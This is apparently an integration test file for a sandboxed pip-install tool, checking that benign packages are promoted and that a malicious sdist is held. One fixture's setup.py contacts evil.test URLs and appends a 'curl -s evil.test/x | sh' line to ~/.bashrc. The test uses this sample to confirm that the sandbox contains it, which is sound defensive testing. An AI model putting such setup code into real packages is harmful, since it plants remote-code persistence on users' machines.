// pip through the whole pipeline — sandbox, gateway, staging, verdict, promotion — against a
// PyPI simple index the test serves in its own fake internet: a wheel and an sdist whose
// setup.py runs, and an sdist whose setup.py behaves like an attacker's.
#include <catch2/catch.hpp>
#include <filesystem>

#include "tests/integration/harness.h"
#include "tests/integration/project_checks.h"
#include "tests/integration/skip.h"
#include "tests/support/ecosystem_registries.h"
#include "tests/support/fake_internet.h"

using namespace safeinstall::test;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

namespace {

constexpr const char* kPython = "/usr/bin/python3";

// A virtual environment in the project, made on the host before the install, as a user would.
void make_venv(const Scenario& s) {
  RunOptions options;
  if (s.who() == Who::Unprivileged) options.as_user = kUnprivilegedUid;
  auto made = run({kPython, "-m", "venv", s.project() + "/.venv"}, options);
  INFO(made.err);
  REQUIRE(made.exit_code == 0);
}

SandboxRun pip_install(const Scenario& s, const std::string& package) {
  auto run = s.run({".venv/bin/pip", "install", "--index-url", "http://registry.test/simple/",
                    "--trusted-host", "registry.test", "--no-build-isolation", package},
                   {"--allow-host", "registry.test:80"}, kCleanCiEnv, 120s);
  UNSCOPED_INFO("pip install " << package << "\nexit " << run.exit_code()
                               << "\nstdout: " << run.result.out << "\nstderr: " << run.result.err);
  return run;
}

std::optional<std::string> venv_unavailable() {
  if (run({kPython, "-c", "import venv, ensurepip"}).exit_code != 0)
    return "python3-venv is not installed (scripts/setup.sh installs it)";
  return std::nullopt;
}

#define SKIP_UNLESS_PIP(who)                      \
  SKIP_UNLESS_INSTALL_TEST(who, kPython);         \
  do {                                            \
    if (auto venv_reason_ = venv_unavailable()) { \
      WARN("skipped: " << *venv_reason_);         \
      return;                                     \
    }                                             \
  } while (false)

const std::string kSitePackages = ".venv/lib/python3.11/site-packages";

}  // namespace

TEST_CASE("pip installs a wheel and an sdist whose setup.py runs, and they are promoted",
          "[install][pip]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_PIP(who);
  FakeInternet net(SI_SINK_PATH);
  write_pypi_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "si-pure",
        .version = "1.2.0",
        .format = PypiPackage::Format::Wheel,
        .files = {{"si_pure/__init__.py", "VALUE = 'pure 1.2'\n"}}},
       {.name = "si-built",
        .version = "0.3.0",
        .format = PypiPackage::Format::Sdist,
        .files = {{"si_built.py", "import si_pure\nVALUE = 'built+' + si_pure.VALUE\n"}},
        .requires_dist = {"si-pure>=1.0"},
        .setup_code = "print('setup.py of si-built ran')\n"}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  make_venv(s);
  REQUIRE_FALSE(in_project(s, kSitePackages + "/si_pure"));

  auto install = pip_install(s, "si-built");
  CHECK(install.exit_code() == 0);
  REQUIRE(install.report.is_object());
  CHECK(install.report.at("profile") == "pip");
  CHECK(install.report.at("verdict") == "promoted");
  // In the real project now, and importable from it.
  CHECK(project_file(s, kSitePackages + "/si_pure/__init__.py") == "VALUE = 'pure 1.2'\n");
  CHECK(in_project(s, kSitePackages + "/si_built.py"));
  auto imported =
      run({s.project() + "/.venv/bin/python", "-c", "import si_built; print(si_built.VALUE)"});
  CHECK(imported.out == "built+pure 1.2\n");
  const auto& changes = install.report.at("files").at("project");
  for (const auto& change : changes) CHECK(change.at("category") == "expected");
  CHECK(change_at(changes, kSitePackages + "/si_pure/__init__.py") != nullptr);
  CHECK_FALSE(contacted_hosts(install.report, "registry.test").empty());
  auto log = net.log(FakeInternet::Log::Registry);
  CHECK(contains(log, "GET /simple/si-built/"));
  CHECK(contains(log, "GET /pypi/files/si_built-0.3.0.tar.gz"));
  CHECK(contains(log, "GET /pypi/files/si_pure-1.2.0-py3-none-any.whl"));
  CHECK(net.sink_log().empty());
}

TEST_CASE("an sdist whose setup.py phones home and plants a shell rc line is held",
          "[install][pip]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_PIP(who);
  FakeInternet net(SI_SINK_PATH);
  write_pypi_registry(
      net.registry_root(), "http://registry.test/",
      {{.name = "si-evil",
        .version = "1.0.0",
        .format = PypiPackage::Format::Sdist,
        .files = {{"si_evil.py", "VALUE = 1\n"}},
        .setup_code = "import os, urllib.request\n"
                      "for url in ('http://evil.test/collect?k=v', 'https://evil.test/collect'):\n"
                      "    try:\n"
                      "        urllib.request.urlopen(url, timeout=10).read()\n"
                      "        print('setup.py: reached', url)\n"
                      "    except Exception as e:\n"
                      "        print('setup.py: refused', url, e)\n"
                      "with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n"
                      "    rc.write('curl -s evil.test/x | sh\\n')\n"}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  make_venv(s);

  auto run = pip_install(s, "si-evil");
  CHECK(run.exit_code() == kExitSuspicious);
  REQUIRE(run.report.is_object());
  CHECK(run.report.at("verdict") == "held");
  // Nothing reached the real venv.
  CHECK_FALSE(in_project(s, kSitePackages + "/si_evil.py"));
  // Both attempts (plain HTTP through the proxy, and CONNECT) and the plant are on record.
  check_exfiltration_contained(run, net, 2);
}

TEST_CASE("pip's log is kept in the run dir after a failing install, and named",
          "[install][pip][hints]") {
  Who who = GENERATE(Who::Root, Who::Unprivileged);
  SKIP_UNLESS_PIP(who);
  FakeInternet net(SI_SINK_PATH);
  write_pypi_registry(net.registry_root(), "http://registry.test/",
                      {{.name = "si-pure",
                        .version = "1.2.0",
                        .format = PypiPackage::Format::Wheel,
                        .files = {{"si_pure/__init__.py", "VALUE = 1\n"}}}});
  Scenario s(who);
  s.run_behind(net.in_world({}));
  make_venv(s);

  auto failed = pip_install(s, "si-missing");
  CHECK(failed.exit_code() != 0);
  REQUIRE(failed.report.is_object());
  REQUIRE(failed.report.contains("logs"));
  REQUIRE(failed.report.at("logs").size() == 1);
  const auto& log = failed.report.at("logs").at(0);
  CHECK(log.at("tool") == "pip");
  CHECK(contains(log.at("inside").get<std::string>(), "/.pip/logs/pip.log"));
  std::string kept = log.at("path");
  std::string run_dir = failed.report.at("staging").at("run_dir");
  CHECK(kept == run_dir + "/logs/pip/pip.log");
  // pip's verbose log: what it asked the index and why it gave up.
  std::string text = read_file(kept);
  CHECK(contains(text, "si-missing"));
  CHECK(contains(text, "No matching distribution found"));
  CHECK(contains(failed.result.err, "is kept as " + kept));
}
